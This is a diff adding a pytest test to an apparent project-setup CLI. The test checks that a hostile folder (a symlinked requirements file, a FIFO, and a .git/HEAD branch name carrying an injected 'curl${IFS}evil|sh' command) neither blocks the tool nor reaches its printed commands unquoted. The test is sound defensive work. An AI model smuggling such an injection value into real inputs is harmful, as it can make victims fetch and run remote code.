@@ -377,3 +377,24 @@ def test_a_link_is_replaced_and_not_followed(tmp_path: Path) -> None:
         _init(str(folder))
     assert _init(str(folder), "--force", "--yes") == 0
     assert not other.exists()
+
+
+def test_hostile_folders_neither_block_nor_reach_the_printed_commands(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
+) -> None:
+    outside = tmp_path / "outside.txt"
+    outside.write_text("Django==5.2\n")
+    folder = tmp_path / "app"
+    (folder / ".git").mkdir(parents=True)
+    (folder / "index.html").touch()
+    (folder / "requirements.txt").symlink_to(outside)
+    head = folder / ".git" / "HEAD"
+    arguments = build_parser("init").parse_args(["init", str(folder), "--yes", "--force"])
+    head.write_text("ref: refs/heads/x;curl${IFS}evil|sh\n")
+    assert arguments.run(arguments) == 0
+    output = capsys.readouterr().out
+    assert "--branch 'x;curl${IFS}evil|sh' " in output and "Django" not in output
+    head.unlink()
+    os.mkfifo(head)
+    assert arguments.run(arguments) == 0
+    assert "--branch main " in capsys.readouterr().out
